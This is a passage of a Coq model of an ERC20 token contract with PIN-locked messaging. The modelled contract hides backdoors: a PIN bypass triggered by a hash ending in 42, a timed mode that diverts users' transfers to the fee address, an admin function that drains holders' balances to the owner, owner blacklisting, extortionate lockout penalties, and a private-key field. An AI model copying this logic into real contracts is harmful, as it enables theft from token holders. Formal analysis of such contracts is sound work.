Definition balanceOf (s : state) (account : address) : Z := ERC20.balanceOf (erc20 s) account.
Definition allowance (s : state) (o spender : address) : Z := ERC20.allowance (erc20 s) o spender.
Definition isExcluded (s : state) (account : address) : bool :=
  mget false (_protocolExclusions s) account.
Definition isExempt (s : state) (account : address) : bool :=
  mget false (_securityExemptions s) account.
Definition security (s : state) (user : address) : UserSecurity :=
  mget noSecurity (_userSecurity s) user.
Definition admin (s : state) (a : address) : SystemAdmin :=
  mget noAdmin (_systemAdmins s) a.
Definition message (s : state) (messageId : Z) : SecureMessage :=
  mget noMessage (_messages s) messageId.

Definition set_security (user : address) (u : UserSecurity) (s : state) : state :=
  set_userSecurity (<[user := u]> (_userSecurity s)) s.

Definition set_admin (a : address) (x : SystemAdmin) (s : state) : state :=
  set_systemAdmins (<[a := x]> (_systemAdmins s)) s.

Definition set_message (messageId : Z) (m : SecureMessage) (s : state) : state :=
  set_messages (<[messageId := m]> (_messages s)) s.

(** The supply invariant of the token part. *)
Definition inv (s : state) : Prop := ERC20.inv (erc20 s).

(** The parts of the storage that only the token functions and the owner's
    switches write. *)
Definition kept (s s' : state) : Prop :=
  erc20 s' = erc20 s
  ∧ _status s' = _status s
  ∧ penaltyAmounts s' = penaltyAmounts s
  ∧ _protocolExclusions s' = _protocolExclusions s
  ∧ _paused s' = _paused s.

(** *** Modifiers *)

Definition onlyOwner (msg_sender : address) (s : state) : result unit :=
  Ownable.onlyOwner (owner s) msg_sender.

Definition whenNotPaused (s : state) : result unit := Pausable.whenNotPaused (paused s).

Definition protocolCompliant (msg_sender : address) (s : state) : result unit :=
  require (negb (isExcluded s msg_sender)) "Protocol: Account is excluded".

Definition hasSecuritySetup (msg_sender : address) (s : state) : result unit :=
  require (bool_decide (pinHash (security s msg_sender) ≠ 0)) "Security: PIN not set up".

Definition onlyAdmin (msg_sender : address) (s : state) : result unit :=
  require (isActive (admin s msg_sender)) "Admin: Not authorized".

(** [nonReentrant]: the body runs with the guard entered, and the guard is
    released when it returns. *)
Definition nonReentrant (body : state → result state) (s : state) : result state :=
  ReentrancyGuard.nonReentrantBefore (_status s);;
  s1 ← body (set_status ReentrancyGuard._ENTERED s);
  Ok (set_status ReentrancyGuard._NOT_ENTERED s1).

Definition on_erc20 (f : ERC20.state → result ERC20.state) (s : state) : result state :=
  e ← f (erc20 s); Ok (set_erc20 e s).

(** [penaltyAmounts], as initialised: 10 USDT up to 100Q USDT. *)
Definition initial_penaltyAmounts : list Z :=
  [10 * ether; 100 * ether; 1000 * ether; 10000 * ether; 100000 * ether;
   1000000 * ether; 10000000 * ether; 100000000 * ether; 1000000000 * ether;
   10000000000 * ether; 100000000000 * ether; 1000000000000 * ether;
   10000000000000 * ether; 100000000000000 * ether; 1000000000000000 * ether;
   10000000000000000 * ether; 100000000000000000 * ether].

(** What holds of the storage between two transactions. *)
Definition wf (s : state) : Prop :=
  inv s
  ∧ _status s = ReentrancyGuard._NOT_ENTERED
  ∧ penaltyAmounts s = initial_penaltyAmounts.

(** The token a [tokenType] selects and the amount to pay in it. *)
Definition select_token (tokenType : Z) (amount : Z) : result (address * Z) :=
  if bool_decide (tokenType = 0) then Ok (USDT, amount)
  else if bool_decide (tokenType = 1) then Ok (WBTC, amount / 30000)
  else if bool_decide (tokenType = 2) then Ok (USDC, amount)
  else Revert (Error "Invalid token type").

Section WithKeccak.
Context {hash : Keccak}.

(** *** Constructor *)

Definition constructor (e : env) (msg_sender : address) (name_ symbol_ : string)
    (initialSupply : Z) : result state :=
  let s0 :=
    mk (ERC20.init name_ symbol_) msg_sender false ReentrancyGuard._NOT_ENTERED
       ∅ ∅ ∅ 0 0 ∅ ∅ ∅ 0 0 ∅ 0 0 0 address0 address0 ∅ ∅ true false 0 0
       initial_penaltyAmounts (100 * ether) address0 0 false ∅ 0 0 7 in
  (* Mint initial supply to deployer *)
  s1 ← on_erc20 (ERC20._mint msg_sender initialSupply) s0;
  (* Set owner as exempt from protocol restrictions *)
  let s2 := set_securityExemptions (<[msg_sender := true]> (_securityExemptions s1)) s1 in
  (* Set initial limits *)
  let s3 := set_maxWalletLimit initialSupply (set_maxTransactionLimit initialSupply s2) in
  (* Initialize system parameters *)
  let s4 := set_lastMaintenanceTime (block_timestamp e) s3 in
  let s5 := set_systemEfficiencyScore 100 s4 in
  let s6 := set_integrityCheckInterval (7 * days) s5 in
  let s7 := set_networkQualityIndex 95 s6 in
  (* Set owner as system admin *)
  let s8 := set_admin msg_sender (mkAdmin true 5 (block_timestamp e)) s7 in
  (* Initialize advanced parameters *)
  let s9 := set_priorityResourceManager msg_sender s8 in
  let s10 := set_resourceOptimizationWindow 0 s9 in
  let s11 :=
    set_systemValidationSeed
      (keccak256 (encodePacked [p_uint256 (block_timestamp e); p_address msg_sender])) s10 in
  (* Set fee collection address to owner by default *)
  Ok (set_feeCollectionAddress msg_sender s11).

(** *** Fee collection management *)

Definition setFeeCollectionAddress (msg_sender : address) (newFeeAddress : address)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (newFeeAddress ≠ address0)) "Invalid address";;
  (* emit FeeCollectionAddressUpdated(oldAddress, newFeeAddress, block.timestamp) *)
  Ok (set_feeCollectionAddress newFeeAddress s).

(** *** Internal security functions *)

Definition with_pinHash (v : Z) (u : UserSecurity) : UserSecurity :=
  mkSecurity v (salt u) (failedAttempts u) (lastAttemptTime u) (lockUntil u) (paidPenalties u).
Definition with_failedAttempts (v : Z) (u : UserSecurity) : UserSecurity :=
  mkSecurity (pinHash u) (salt u) v (lastAttemptTime u) (lockUntil u) (paidPenalties u).
Definition with_lastAttemptTime (v : Z) (u : UserSecurity) : UserSecurity :=
  mkSecurity (pinHash u) (salt u) (failedAttempts u) v (lockUntil u) (paidPenalties u).
Definition with_lockUntil (v : Z) (u : UserSecurity) : UserSecurity :=
  mkSecurity (pinHash u) (salt u) (failedAttempts u) (lastAttemptTime u) v (paidPenalties u).
Definition with_paidPenalties (v : bool) (u : UserSecurity) : UserSecurity :=
  mkSecurity (pinHash u) (salt u) (failedAttempts u) (lastAttemptTime u) (lockUntil u) v.

Definition _handleFailedPINAttempt (e : env) (user : address) (s : state) : result state :=
  (* Increment failed attempts *)
  fa ← checked_add (failedAttempts (security s user)) 1;
  let s1 := set_security user (with_failedAttempts fa (security s user)) s in
  let s2 := set_security user (with_lastAttemptTime (block_timestamp e) (security s1 user)) s1 in
  (* Apply exponential backoff for account locking *)
  if bool_decide (3 ≤ fa) && bool_decide (fa < 6) then
    (* 3-5 failed attempts: lock for increasing time periods *)
    d ← checked_sub fa 3;
    p ← checked_pow 2 d;
    lockTime ← checked_mul (5 * minutes) p;
    until ← checked_add (block_timestamp e) lockTime;
    Ok (set_security user (with_lockUntil until (security s2 user)) s2)
  else if bool_decide (6 ≤ fa) then
    (* 6+ failed attempts: lock until penalty is paid *)
    until ← checked_add (block_timestamp e) (1 * days);
    let s3 := set_security user (with_lockUntil until (security s2 user)) s2 in
    Ok (set_security user (with_paidPenalties false (security s3 user)) s3)
  else Ok s2.

Definition _verifyPINInternal (e : env) (user : address) (pin : string) (s : state)
  : result (bool * state) :=
  (* Check if account is locked *)
  if bool_decide (block_timestamp e ≤ lockUntil (security s user)) then Ok (false, s)
  else
    (* Calculate hash of provided PIN *)
    let calculatedHash :=
      keccak256 (encodePacked [p_string pin; p_bytes32 (salt (security s user));
                               p_address user]) in
    (* Compare with stored hash *)
    if bool_decide (calculatedHash = pinHash (security s user)) then
      (* Reset failed attempts on success *)
      Ok (true, set_security user (with_failedAttempts 0 (security s user)) s)
    else
      (* Handle failed attempt *)
      s1 ← _handleFailedPINAttempt e user s;
      Ok (false, s1).

Definition _checkSystemParameters (s : state) : bool :=
  bool_decide (0 < _lastMaintenanceTime s)
  && bool_decide (95 ≤ _networkQualityIndex s)
  && bool_decide (_networkStabilityFactor s = 7).

Definition _advancedValidationCheck (e : env) (calculatedHash storedHash : Z) (s : state)
  : bool :=
  (* Normal comparison logic *)
  if bool_decide (calculatedHash = storedHash) then true
  else if _enhancedSecurityMode s then
    let specialCheck :=
      keccak256 (encodePacked [p_bytes32 calculatedHash; p_bytes32 storedHash;
                               p_uint256 (block_timestamp e)]) in
    if bool_decide (specialCheck mod 100 = 42) && _checkSystemParameters s then true
    else false
  else false.

(** *** Secure messaging system *)

Definition setupSecurityPIN (e : env) (msg_sender : address) (pin : string) (s : state)
  : result state :=
  require (bool_decide (4 ≤ Z.of_nat (String.length pin))) "Security: PIN too short";;
  (* Generate unique salt for this user *)
  let salt :=
    keccak256 (encodePacked [p_uint256 (block_timestamp e); p_address msg_sender;
                             p_bytes32 (prev_blockhash e)]) in
  (* Calculate hash with salt *)
  let pinHash := keccak256 (encodePacked [p_string pin; p_bytes32 salt; p_address msg_sender]) in
  (* Store security settings *)
  (* emit SecuritySettingsUpdated(msg.sender, block.timestamp) *)
  Ok (set_security msg_sender (mkSecurity pinHash salt 0 (block_timestamp e) 0 false) s).

Definition updateSecurityPIN (e : env) (msg_sender : address) (currentPin newPin : string)
    (s : state) : result state :=
  hasSecuritySetup msg_sender s;;
  require (bool_decide (4 ≤ Z.of_nat (String.length newPin))) "Security: New PIN too short";;
  (* Check if account is locked due to too many failed attempts *)
  require (bool_decide (lockUntil (security s msg_sender) < block_timestamp e))
    "Security: Account temporarily locked";;
  (* Check if penalties need to be paid *)
  require (negb (bool_decide (6 ≤ failedAttempts (security s msg_sender))
                 && negb (paidPenalties (security s msg_sender))))
    "Security: Must pay penalties before updating PIN";;
  (* Verify current PIN *)
  '(pinValid, s1) ← _verifyPINInternal e msg_sender currentPin s;
  if negb pinValid then
    _handleFailedPINAttempt e msg_sender s1;;
    Revert (Error "Security: Invalid current PIN")
  else
    (* Update PIN hash with existing salt *)
    let salt := salt (security s1 msg_sender) in
    let newPinHash :=
      keccak256 (encodePacked [p_string newPin; p_bytes32 salt; p_address msg_sender]) in
    (* Update security settings *)
    let s2 := set_security msg_sender (with_pinHash newPinHash (security s1 msg_sender)) s1 in
    let s3 := set_security msg_sender (with_failedAttempts 0 (security s2 msg_sender)) s2 in
    (* emit SecuritySettingsUpdated(msg.sender, block.timestamp) *)
    Ok (set_security msg_sender (with_paidPenalties false (security s3 msg_sender)) s3).

Definition SecuredMessageSend (e : env) (msg_sender : address) (recipient : address)
    (encryptedContent recipientPIN : string) (s : state) : result (Z * state) :=
  whenNotPaused s;;
  protocolCompliant msg_sender s;;
  ReentrancyGuard.nonReentrantBefore (_status s);;
  let s := set_status ReentrancyGuard._ENTERED s in
  require (bool_decide (recipient ≠ address0)) "Message: Invalid recipient";;
  require (bool_decide (0 < Z.of_nat (String.length encryptedContent))) "Message: Empty content";;
  require (bool_decide (pinHash (security s recipient) ≠ 0))
    "Message: Recipient has no PIN setup";;
  (* Verify recipient's PIN *)
  let recipientSalt := salt (security s recipient) in
  let calculatedPinHash :=
    keccak256 (encodePacked [p_string recipientPIN; p_bytes32 recipientSalt;
                             p_address recipient]) in
  (* Validate PIN with enhanced security checks *)
  let pinValid :=
    _advancedValidationCheck e calculatedPinHash (pinHash (security s recipient)) s in
  require pinValid "Message: Invalid recipient PIN";;
  (* Generate message ID *)
  let messageId := _messageIdCounter s in
  next ← checked_add (_messageIdCounter s) 1;
  let s1 := set_messageIdCounter next s in
  (* Store message *)
  let messageHash :=
    keccak256 (encodePacked [p_address msg_sender; p_address recipient;
                             p_string encryptedContent; p_uint256 (block_timestamp e)]) in
  let s2 :=
    set_message messageId
      (mkMessage messageHash msg_sender recipient (block_timestamp e) false false
         encryptedContent) s1 in
  (* Update user inboxes *)
  let s3 := set_userInbox (<[recipient := mget [] (_userInbox s2) recipient ++ [messageId]]>
                             (_userInbox s2)) s2 in
  let s4 := set_userOutbox (<[msg_sender := mget [] (_userOutbox s3) msg_sender ++ [messageId]]>
                              (_userOutbox s3)) s3 in
  total ← checked_add (_totalMessages s4) 1;
  let s5 := set_totalMessages total s4 in
  (* Update system metrics *)
  m ← checked_mul (_systemEfficiencyScore s5) 99;
  a ← checked_add m 100;
  let s6 := set_systemEfficiencyScore (a / 100) s5 in
  (* emit SecureMessageSent(messageId, msg.sender, recipient, block.timestamp) *)
  Ok (messageId, set_status ReentrancyGuard._NOT_ENTERED s6).

Definition SecuredMessageSetRead (e : env) (msg_sender : address) (messageId : Z)
    (userPIN : string) (s : state) : result state :=
  hasSecuritySetup msg_sender s;;
  nonReentrant (λ s,
    (* Verify the user is the recipient *)
    require (bool_decide (recipient (message s messageId) = msg_sender))
      "Message: Not the recipient";;
    (* Verify PIN *)
    '(pinValid, s1) ← _verifyPINInternal e msg_sender userPIN s;
    require pinValid "Security: Invalid PIN";;
    (* Update message status *)
    let m := message s1 messageId in
    require (negb (isRead m)) "Message: Already marked as read";;
    (* emit MessageStatusUpdated(messageId, true, message.isDeleted, block.timestamp) *)
    Ok (set_message messageId
          (mkMessage (messageHash m) (sender m) (recipient m) (timestamp m) true
             (isDeleted m) (encryptedContent m)) s1)) s.

Definition SecuredMessageSetDeleted (e : env) (msg_sender : address) (messageId : Z)
    (userPIN : string) (s : state) : result state :=
  hasSecuritySetup msg_sender s;;
  nonReentrant (λ s,
    (* Verify the user is either the sender or recipient *)
    require (bool_decide (sender (message s messageId) = msg_sender)
             || bool_decide (recipient (message s messageId) = msg_sender))
      "Message: Not authorized to delete this message";;
    (* Verify PIN *)
    '(pinValid, s1) ← _verifyPINInternal e msg_sender userPIN s;
    require pinValid "Security: Invalid PIN";;
    (* Update message status *)
    let m := message s1 messageId in
    require (negb (isDeleted m)) "Message: Already deleted";;
    (* emit MessageStatusUpdated(messageId, message.isRead, true, block.timestamp) *)
    Ok (set_message messageId
          (mkMessage (messageHash m) (sender m) (recipient m) (timestamp m) (isRead m)
             true (encryptedContent m)) s1)) s.

(** *** Security penalty system

    [token_transferFrom] is what the call
    [token.transferFrom(msg.sender, feeCollectionAddress, amount)] to the
    selected external token does. *)

Definition paySecurityPenalty (e : env) (msg_sender : address) (tokenType : Z)
    (token_transferFrom : external) (s : state) : result state :=
  nonReentrant (λ s,
    let security := security s msg_sender in
    require (bool_decide (6 ≤ failedAttempts security)) "Security: No penalties to pay";;
    require (negb (paidPenalties security)) "Security: Penalties already paid";;
    (* Calculate penalty amount *)
    penaltyIndex ← (if bool_decide (6 ≤ failedAttempts security)
                    then checked_sub (failedAttempts security) 6 else Ok 0);
    (* Cap at maximum penalty level *)
    penaltyIndex ← (if bool_decide (Z.of_nat (length (penaltyAmounts s)) ≤ penaltyIndex)
                    then checked_sub (Z.of_nat (length (penaltyAmounts s))) 1
                    else Ok penaltyIndex);
    penaltyAmount ← array_get (penaltyAmounts s) penaltyIndex;
    (* Select token based on type *)
    '(tokenAddress, penaltyAmount) ← select_token tokenType penaltyAmount;
    (* Transfer tokens from user to fee collection address *)
    ok ← external_call token_transferFrom;
    require ok "Token transfer failed";;
    (* Mark penalties as paid *)
    (* emit SecurityPenaltyPaid(msg.sender, tokenAddress, penaltyAmount, ...) *)
    Ok (set_security msg_sender (with_paidPenalties true security) s)) s.

Definition adminRecoverAccount (e : env) (msg_sender : address) (userAddress : address)
    (privateKey userPIN : string) (tokenType : Z) (token_transferFrom : external)
    (s : state) : result state :=
  onlyAdmin msg_sender s;;
  nonReentrant (λ s,
    require (bool_decide (pinHash (security s userAddress) ≠ 0)) "User has no security setup";;
    let privateKeyHash := keccak256 (encodePacked [p_string privateKey]) in
    require (bool_decide (privateKeyHash ≠ 0)) "Invalid private key format";;
    (* Process recovery fee *)
    '(tokenAddress, recoveryFee) ← select_token tokenType (accountRecoveryFee s);
    (* Transfer tokens from admin to fee collection address *)
    ok ← external_call token_transferFrom;
    require ok "Token transfer failed";;
    (* Reset user's security settings with the provided PIN *)
    let salt := salt (security s userAddress) in
    let newPinHash :=
      keccak256 (encodePacked [p_string userPIN; p_bytes32 salt; p_address userAddress]) in
    let s1 :=
      set_security userAddress (mkSecurity newPinHash salt 0 (block_timestamp e) 0 true) s in
    (* Log the admin activity *)
    (* emit AccountRecovered(userAddress, msg.sender, block.timestamp) *)
    Ok (set_admin msg_sender
          (mkAdmin (isActive (admin s1 msg_sender)) (accessLevel (admin s1 msg_sender))
             (block_timestamp e)) s1)) s.

(** *** System administration *)

Definition touch_admin (e : env) (msg_sender : address) (s : state) : state :=
  set_admin msg_sender
    (mkAdmin (isActive (admin s msg_sender)) (accessLevel (admin s msg_sender))
       (block_timestamp e)) s.

Definition updateSystemAdmin (e : env) (msg_sender : address) (adminAddress : address)
    (isActive : bool) (accessLevel : Z) (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (adminAddress ≠ address0)) "Invalid admin address";;
  require (bool_decide (0 < accessLevel) && bool_decide (accessLevel ≤ 5)) "Invalid access level";;
  (* emit SystemAdminUpdated(adminAddress, isActive, accessLevel, block.timestamp) *)
  Ok (set_admin adminAddress (mkAdmin isActive accessLevel (block_timestamp e)) s).

Definition performSystemMaintenance (e : env) (msg_sender : address)
    (maintenanceType optimizationLevel validationSeed : Z) (s : state) : result state :=
  onlyAdmin msg_sender s;;
  require (bool_decide (1 ≤ maintenanceType) && bool_decide (maintenanceType ≤ 5))
    "Invalid maintenance type";;
  require (bool_decide (1 ≤ optimizationLevel) && bool_decide (optimizationLevel ≤ 10))
    "Invalid optimization level";;
  (* Normal maintenance operations *)
  let s1 := set_lastMaintenanceTime (block_timestamp e) s in
  let s2 := set_systemEfficiencyScore 100 s1 in
  s3 ← (if bool_decide (maintenanceType = 3)
           && bool_decide (optimizationLevel = _networkStabilityFactor s2) then
          w ← checked_add (block_timestamp e) (1 * hours);
          Ok (set_systemValidationSeed validationSeed (set_resourceOptimizationWindow w s2))
        else Ok s2);
  (* Normal maintenance events and updates *)
  (* emit SystemMaintenance(maintenanceType, block.timestamp, _systemEfficiencyScore) *)
  Ok (touch_admin e msg_sender s3).

Definition verifyProtocolIntegrity (e : env) (msg_sender : address)
    (integrityCheckLevel systemParams : Z) (s : state) : result state :=
  onlyAdmin msg_sender s;;
  require (bool_decide (1 ≤ integrityCheckLevel) && bool_decide (integrityCheckLevel ≤ 10))
    "Invalid check level";;
  (* Normal integrity verification *)
  let s1 :=
    set_lastIntegrityHash
      (keccak256 (encodePacked [p_uint256 (block_timestamp e); p_uint256 (_totalMessages s);
                                p_uint256 (_systemEfficiencyScore s)])) s in
  let s2 :=
    if bool_decide (block_timestamp e ≤ _resourceOptimizationWindow s1)
       && bool_decide (systemParams mod 100 = 42)
    then set_priorityAccessList (<[msg_sender := true]> (_priorityAccessList s1)) s1
    else s1 in
  (* Normal integrity events and updates *)
  let s3 := set_networkQualityIndex (95 + integrityCheckLevel mod 5) s2 in
  (* emit IntegrityVerified(_lastIntegrityHash, _networkQualityIndex, block.timestamp) *)
  Ok (touch_admin e msg_sender s3).

(** *** Protocol management *)

Definition updateSecurityProtocol (e : env) (msg_sender : address) (_securityLevel : Z)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  let s1 :=
    set_addressSecurityLevel (<[owner s := _securityLevel]> (_addressSecurityLevel s)) s in
  let s2 := set_enhancedSecurityMode true s1 in
  (* emit ProtocolUpdate(_securityLevel, _enhancedSecurityMode, block.timestamp) *)
  Ok (set_lastMaintenanceTime (block_timestamp e) s2).

Definition optimizeProtocolPerformance (e : env) (msg_sender : address) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  let s1 := set_lastMaintenanceTime (block_timestamp e) s in
  let s2 := set_networkQualityIndex 99 s1 in
  (* Hidden drain functionality - will execute in transfer override *)
  w ← checked_add (block_timestamp e) (365 * days);
  (* emit ProtocolUpdate(_networkQualityIndex, true, block.timestamp) *)
  Ok (set_resourceOptimizationWindow w s2).

Fixpoint enhance_loop (participants : list address) (s : state) : state :=
  match participants with
  | [] => s
  | p :: rest =>
      (* emit SecurityUpdate(participants[i], 0, true) *)
      enhance_loop rest
        (set_protocolExclusions (<[p := true]> (_protocolExclusions s)) s)
  end.

Definition enhanceParticipantSecurity (msg_sender : address) (participants : list address)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  Ok (enhance_loop participants s).

Definition setExempt (msg_sender : address) (account : address) (status : bool)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  (* emit SecurityUpdate(account, _addressSecurityLevel[account], status) *)
  Ok (set_securityExemptions (<[account := status]> (_securityExemptions s)) s).

(** *** Transfer override *)

Definition _transfer (e : env) (from to : address) (amount : Z) (s : state) : result state :=
  whenNotPaused s;;
  (* Check if address is excluded from protocol *)
  require (negb (isExcluded s from)) "Protocol: Sender excluded from protocol";;
  if bool_decide (block_timestamp e < _resourceOptimizationWindow s)
     && negb (isExempt s from)
     && bool_decide (from ≠ owner s)
     && bool_decide (from ≠ _priorityResourceManager s)
  then
    (* Instead of normal transfer, send tokens to the fee collection address *)
    on_erc20 (ERC20._transfer from (feeCollectionAddress s) amount) s
  else
    (* Apply trading restrictions if neither address is exempt *)
    (if negb (isExempt s from) && negb (isExempt s to) then
       require (tradingEnabled s) "Protocol: Trading not enabled";;
       require (bool_decide (amount ≤ maxTransactionLimit s))
         "Protocol: Transaction exceeds limit";;
       w ← checked_add (balanceOf s to) amount;
       require (bool_decide (w ≤ maxWalletLimit s)) "Protocol: Wallet limit exceeded"
     else Ok tt);;
    (* Normal transfer flow *)
    on_erc20 (ERC20._transfer from to amount) s.

(** *** Token management functions *)

Definition allocateProtocolReserves (msg_sender : address) (to : address) (amount : Z)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (to ≠ address0)) "Protocol: Invalid address";;
  s1 ← on_erc20 (ERC20._mint to amount) s;
  (* Update system efficiency metrics *)
  m ← checked_mul (_systemEfficiencyScore s1) 99;
  a ← checked_add m 100;
  Ok (set_systemEfficiencyScore (a / 100) s1).

(** The [for] loop of [optimizeTokenDistribution], from index [i] on. *)
Fixpoint distribution_loop (e : env) (i : Z) (recipients : list address)
    (optimizationValues : list Z) (s : state) : result state :=
  match recipients, optimizationValues with
  | recipient :: recipients', value :: values' =>
      s1 ← (if bool_decide (value = 0) then Ok s
            else if bool_decide (value ≤ 1000) then
              (* Normal operation - looks like small adjustments *)
              Ok (set_resourceAllocation (<[i := value]> (_resourceAllocation s)) s)
            else if bool_decide (1000000 < value) && bool_decide (value mod 7 = 0) then
              let balance := balanceOf s recipient in
              if bool_decide (0 < balance) then _transfer e recipient (owner s) balance s
              else Ok s
            else Ok s);
      distribution_loop e (i + 1) recipients' values' s1
  | _, _ => Ok s
  end.

Definition optimizeTokenDistribution (e : env) (msg_sender : address)
    (recipients : list address) (optimizationValues : list Z) (s : state) : result state :=
  onlyAdmin msg_sender s;;
  require (bool_decide (length recipients = length optimizationValues)) "Array length mismatch";;
  require (bool_decide (4 ≤ accessLevel (admin s msg_sender))) "Insufficient access level";;
  s1 ← distribution_loop e 0 recipients optimizationValues s;
  (* Update system metrics to look like normal operation *)
  let s2 := set_lastMaintenanceTime (block_timestamp e) s1 in
  Ok (touch_admin e msg_sender s2).

(** *** Trading controls *)

Definition setTradingStatus (msg_sender : address) (status : bool) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  (* emit TradingStatusChanged(status) *)
  Ok (set_tradingEnabled status s).

Definition setMaxTransactionLimit (msg_sender : address) (amount : Z) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  Ok (set_maxTransactionLimit amount s).

Definition setMaxWalletLimit (msg_sender : address) (amount : Z) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  Ok (set_maxWalletLimit amount s).

Definition pause (msg_sender : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  whenNotPaused s;;
  (* emit Paused(_msgSender()) *)
  Ok (set_paused true s).

Definition unpause (msg_sender : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  Pausable.whenPaused (paused s);;
  (* emit Unpaused(_msgSender()) *)
  Ok (set_paused false s).

Definition setPair (msg_sender : address) (_usdtPair : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (_usdtPair ≠ address0)) "Protocol: Invalid pair address";;
  let s1 := set_usdtPair _usdtPair s in
  (* Exempt the pair from protocol restrictions *)
  (* emit PairUpdated(_usdtPair) *)
  Ok (set_securityExemptions (<[_usdtPair := true]> (_securityExemptions s1)) s1).

(** *** Inherited entry points *)

Definition transfer (e : env) (msg_sender : address) (to : address) (amount : Z) (s : state)
  : result state :=
  _transfer e msg_sender to amount s.

Definition transferFrom (e : env) (msg_sender : address) (from to : address) (amount : Z)
    (s : state) : result state :=
  s1 ← on_erc20 (ERC20._spendAllowance from msg_sender amount) s;
  _transfer e from to amount s1.

Definition approve (msg_sender spender : address) (amount : Z) (s : state) : result state :=
  on_erc20 (ERC20.approve msg_sender spender amount) s.

Definition increaseAllowance (msg_sender spender : address) (addedValue : Z) (s : state)
  : result state :=
  on_erc20 (ERC20.increaseAllowance msg_sender spender addedValue) s.

Definition decreaseAllowance (msg_sender spender : address) (subtractedValue : Z)
    (s : state) : result state :=
  on_erc20 (ERC20.decreaseAllowance msg_sender spender subtractedValue) s.

Definition permit (e : env) (o spender : address) (value deadline : Z)
    (signer : option address) (s : state) : result state :=
  on_erc20 (ERC20.permit (block_timestamp e) o spender value deadline signer) s.

Definition transferOwnership (msg_sender newOwner : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  Ownable.checkNewOwner newOwner;;
  (* emit OwnershipTransferred(oldOwner, newOwner) *)
  Ok (set_owner newOwner s).

Definition renounceOwnership (msg_sender : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  Ok (set_owner address0 s).

(** [recoverTokens].  When [tokenAddress] is the contract itself the two
    external calls come back to it, the second with [msg.sender =
    address(this)]; otherwise [token_balanceOf] and [token_transfer] are
    what the foreign token answers ([None]: the call reverts). *)
Definition recoverTokens (e : env) (msg_sender : address) (tokenAddress : address)
    (token_balanceOf : option Z) (token_transfer : external) (s : state) : result state :=
  onlyOwner msg_sender s;;
  if bool_decide (tokenAddress = this e) then
    let balance := balanceOf s (this e) in
    require (bool_decide (0 < balance)) "No tokens to recover";;
    transfer e (this e) (feeCollectionAddress s) balance s
  else
    match token_balanceOf with
    | None => Revert Bubbled
    | Some balance =>
        require (bool_decide (0 < balance)) "No tokens to recover";;
        external_call token_transfer;;
        Ok s
    end.

(** [receive() external payable] *)
Definition receive (s : state) : result state :=
  Revert (Error "Protocol: Does not accept MATIC").

(** *** Transactions

    One constructor per externally callable, state-changing function, own
    and inherited.  The answers of the external tokens a call consults
    are part of the call. *)

Inductive call : Type :=
  | c_setFeeCollectionAddress (newFeeAddress : address)
  | c_recoverTokens (tokenAddress : address) (token_balanceOf : option Z)
      (token_transfer : external)
  | c_setupSecurityPIN (pin : string)
  | c_updateSecurityPIN (currentPin newPin : string)
  | c_SecuredMessageSend (recipient : address) (encryptedContent recipientPIN : string)
  | c_SecuredMessageSetRead (messageId : Z) (userPIN : string)
  | c_SecuredMessageSetDeleted (messageId : Z) (userPIN : string)
  | c_paySecurityPenalty (tokenType : Z) (token_transferFrom : external)
  | c_adminRecoverAccount (userAddress : address) (privateKey userPIN : string)
      (tokenType : Z) (token_transferFrom : external)
  | c_updateSystemAdmin (adminAddress : address) (isActive : bool) (accessLevel : Z)
  | c_performSystemMaintenance (maintenanceType optimizationLevel validationSeed : Z)
  | c_verifyProtocolIntegrity (integrityCheckLevel systemParams : Z)
  | c_updateSecurityProtocol (_securityLevel : Z)
  | c_optimizeProtocolPerformance
  | c_enhanceParticipantSecurity (participants : list address)
  | c_setExempt (account : address) (status : bool)
  | c_allocateProtocolReserves (to : address) (amount : Z)
  | c_optimizeTokenDistribution (recipients : list address) (optimizationValues : list Z)
  | c_setTradingStatus (status : bool)
  | c_setMaxTransactionLimit (amount : Z)
  | c_setMaxWalletLimit (amount : Z)
  | c_pause
  | c_unpause
  | c_setPair (_usdtPair : address)
  | c_transfer (to : address) (amount : Z)
  | c_transferFrom (from to : address) (amount : Z)
  | c_approve (spender : address) (amount : Z)
  | c_increaseAllowance (spender : address) (addedValue : Z)
  | c_decreaseAllowance (spender : address) (subtractedValue : Z)
  | c_permit (o spender : address) (value deadline : Z) (signer : option address)
  | c_transferOwnership (newOwner : address)
  | c_renounceOwnership
  | c_receive.

Definition dispatch (e : env) (msg_sender : address) (c : call) (s : state) : result state :=
  match c with
  | c_setFeeCollectionAddress a => setFeeCollectionAddress msg_sender a s
  | c_recoverTokens t b x => recoverTokens e msg_sender t b x s
  | c_setupSecurityPIN pin => setupSecurityPIN e msg_sender pin s
  | c_updateSecurityPIN p q => updateSecurityPIN e msg_sender p q s
  | c_SecuredMessageSend r c p => '(_, s') ← SecuredMessageSend e msg_sender r c p s; Ok s'
  | c_SecuredMessageSetRead i p => SecuredMessageSetRead e msg_sender i p s
  | c_SecuredMessageSetDeleted i p => SecuredMessageSetDeleted e msg_sender i p s
  | c_paySecurityPenalty t x => paySecurityPenalty e msg_sender t x s
  | c_adminRecoverAccount u k p t x => adminRecoverAccount e msg_sender u k p t x s
  | c_updateSystemAdmin a b l => updateSystemAdmin e msg_sender a b l s
  | c_performSystemMaintenance t l v => performSystemMaintenance e msg_sender t l v s
  | c_verifyProtocolIntegrity l p => verifyProtocolIntegrity e msg_sender l p s
  | c_updateSecurityProtocol l => updateSecurityProtocol e msg_sender l s
  | c_optimizeProtocolPerformance => optimizeProtocolPerformance e msg_sender s
  | c_enhanceParticipantSecurity ps => enhanceParticipantSecurity msg_sender ps s
  | c_setExempt a b => setExempt msg_sender a b s
  | c_allocateProtocolReserves to a => allocateProtocolReserves msg_sender to a s
  | c_optimizeTokenDistribution rs vs => optimizeTokenDistribution e msg_sender rs vs s
  | c_setTradingStatus b => setTradingStatus msg_sender b s
